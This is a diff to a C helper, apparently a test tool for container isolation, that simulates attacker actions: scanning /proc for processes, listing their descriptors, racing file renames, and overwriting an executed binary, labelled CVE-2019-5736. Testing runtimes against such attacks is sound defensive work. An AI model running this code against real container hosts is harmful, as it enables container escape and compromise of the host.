@@ -1,8 +1,10 @@
 // What an attacker does inside a container, or beside one. Static.
 //
-//   hostile overwrite DEVICE INODE SECONDS   the file of that identity, if a process executes it
-//   hostile peek SECONDS                     at every process that is not a program of the image
-//   hostile swap ONE OTHER                   two names, until killed
+//   hostile overwrite DEVICE INODE   the file of that identity, if a process executes it
+//   hostile peek                     at every process that is not a program of the image
+//   hostile swap ONE OTHER           two names, until killed
+//
+// The first two watch until SIGTERM, and the first one strikes then.
 #include <dirent.h>
 #include <errno.h>
 #include <fcntl.h>
@@ -23,6 +25,13 @@ static double now(void) {
   return (double)time.tv_sec + (double)time.tv_nsec / 1e9;
 }
 
+static volatile sig_atomic_t told_to_stop;
+
+static void stop(int signal_number) {
+  (void)signal_number;
+  told_to_stop = 1;
+}
+
 static void each_process(void (*look)(const char* pid)) {
   DIR* proc = opendir("/proc");
   if (proc == NULL) return;
@@ -30,6 +39,12 @@ static void each_process(void (*look)(const char* pid)) {
     if (entry->d_name[0] >= '1' && entry->d_name[0] <= '9' && atoi(entry->d_name) != getpid())
       look(entry->d_name);
   closedir(proc);
+}
+
+static void watch(void (*look)(const char* pid)) {
+  signal(SIGTERM, stop);
+  printf("watching\n");
+  while (!told_to_stop) each_process(look);
 }
 
 // ---- overwrite: CVE-2019-5736 -------------------------------------------------------------------
@@ -71,10 +86,9 @@ static bool overwrite_held(void) {
 static int overwrite(char** argv) {
   wanted_device = strtoull(argv[0], NULL, 10);
   wanted_inode = strtoull(argv[1], NULL, 10);
-  const double end = now() + atof(argv[2]);
-  printf("watching\n");
-  while (now() < end) each_process(hold_executable);
-  while (now() < end + 1 && overwrite_held()) {
+  watch(hold_executable);
+  const double end = now() + 2;
+  while (now() < end && overwrite_held()) {
   }
   return 0;
 }
@@ -94,10 +108,8 @@ static void peek_at(const char* pid) {
   if (fds != NULL) printf("listed its descriptors\n"), closedir(fds);
 }
 
-static int peek(char** argv) {
-  const double end = now() + atof(argv[0]);
-  printf("watching\n");
-  while (now() < end) each_process(peek_at);
+static int peek(void) {
+  watch(peek_at);
   return 0;
 }
 
@@ -117,8 +129,8 @@ static int swap(char** argv) {
 
 int main(int argc, char** argv) {
   setvbuf(stdout, NULL, _IOLBF, 0);
-  if (argc == 5 && strcmp(argv[1], "overwrite") == 0) return overwrite(argv + 2);
-  if (argc == 3 && strcmp(argv[1], "peek") == 0) return peek(argv + 2);
+  if (argc == 4 && strcmp(argv[1], "overwrite") == 0) return overwrite(argv + 2);
+  if (argc == 2 && strcmp(argv[1], "peek") == 0) return peek();
   if (argc == 4 && strcmp(argv[1], "swap") == 0) return swap(argv + 2);
   return 2;
 }
